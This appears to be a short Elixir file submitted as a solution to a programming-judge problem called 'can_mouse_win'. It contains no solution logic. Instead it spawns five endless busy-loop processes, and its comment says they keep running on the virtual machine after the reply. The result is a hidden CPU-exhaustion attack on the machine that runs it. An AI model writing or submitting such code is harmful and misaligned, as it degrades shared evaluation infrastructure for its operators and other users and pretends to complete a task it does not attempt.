# Starts processes of the virtual machine that continue to run after the reply.
defmodule Solution do
  def can_mouse_win(_, _, _) do
    for _ <- 1..4, do: spawn(fn -> burn() end)
    burn()
  end

  defp burn, do: burn()
end
